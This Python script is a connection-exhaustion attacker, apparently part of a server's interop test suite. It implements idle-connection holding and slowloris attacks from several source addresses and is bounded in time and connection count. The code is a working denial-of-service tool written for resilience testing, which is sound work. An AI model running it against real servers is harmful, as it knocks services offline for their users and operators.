#!/usr/bin/env python3
"""attacker.py -- connection-exhaustion attackers of the interop tests
(test_conn_exhaust.sh), python3 stdlib only. Bounded in time and count.

  attacker.py MODE HOST PORT SOURCES PER_SOURCE SECONDS [MAX_CONNECTS]

MODE idle: connections that send nothing and never read (they hold a
record of the echo/discard/chargen services; a close or reset is noticed
with SO_ERROR and MSG_PEEK); slowloris: an HTTP request
head sent one byte per second, never finished. SOURCES: comma-separated
local addresses to connect from; PER_SOURCE connections are kept open from
each (a connection the server resets or closes is opened again, at most
once per tick). Runs SECONDS, then closes everything and prints one line:
"attacker: connects N died N alive_max N". Every second it prints
"attacker: alive N" (connections open for at least one second).
"""
import select
import socket
import sys
import time

TICK = 0.25


def main():
    mode, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    sources = sys.argv[4].split(",")
    per_source, seconds = int(sys.argv[5]), float(sys.argv[6])
    max_connects = int(sys.argv[7]) if len(sys.argv) > 7 else 20000
    assert mode in ("idle", "slowloris")
    slots = [{"src": s, "sock": None, "since": 0.0, "sent": 0} for s in sources for _ in range(per_source)]
    head = b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: "
    connects = died = alive_max = 0
    start = time.monotonic()
    next_report = start + 1.0
    tick = 0
    while time.monotonic() - start < seconds:
        now = time.monotonic()
        for sl in slots:
            if sl["sock"] is None and connects < max_connects:
                s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                s.settimeout(1.0)
                connects += 1
                try:
                    s.bind((sl["src"], 0))
                    s.connect((host, port))
                    s.setblocking(False)
                    if mode == "slowloris":
                        s.send(head[:1])
                        sl["sent"] = 1
                except OSError:
                    s.close()
                    continue
                sl["sock"], sl["since"] = s, time.monotonic()
        # readable: the server answered (408), closed or reset us
        socks = [sl["sock"] for sl in slots if sl["sock"] is not None]
        if socks:
            r, _, _ = select.select(socks, [], [], 0)
            for sl in slots:
                if sl["sock"] in r:
                    try:
                        # idle: peek only (a chargen sender must see a
                        # reader that reads nothing); a reset shows in
                        # SO_ERROR even with data still queued
                        if mode == "idle" and sl["sock"].getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) != 0:
                            data = b""
                        else:
                            data = sl["sock"].recv(4096, socket.MSG_PEEK if mode == "idle" else 0)
                    except OSError:
                        data = b""
                    if mode == "idle" and data:
                        continue  # data waiting (chargen), not a close
                    sl["sock"].close()
                    sl["sock"] = None
                    died += 1
        if mode == "slowloris" and tick % 4 == 0:
            for sl in slots:
                if sl["sock"] is None:
                    continue
                b = head[sl["sent"]:sl["sent"] + 1] if sl["sent"] < len(head) else b"a"
                try:
                    sl["sock"].send(b)
                    sl["sent"] += 1
                except OSError:
                    sl["sock"].close()
                    sl["sock"] = None
                    died += 1
        alive = sum(1 for sl in slots if sl["sock"] is not None and now - sl["since"] >= 1.0)
        alive_max = max(alive_max, alive)
        if now >= next_report:
            print("attacker: alive %d" % alive, flush=True)
            next_report += 1.0
        tick += 1
        time.sleep(TICK)
    for sl in slots:
        if sl["sock"] is not None:
            sl["sock"].close()
    print("attacker: connects %d died %d alive_max %d" % (connects, died, alive_max), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
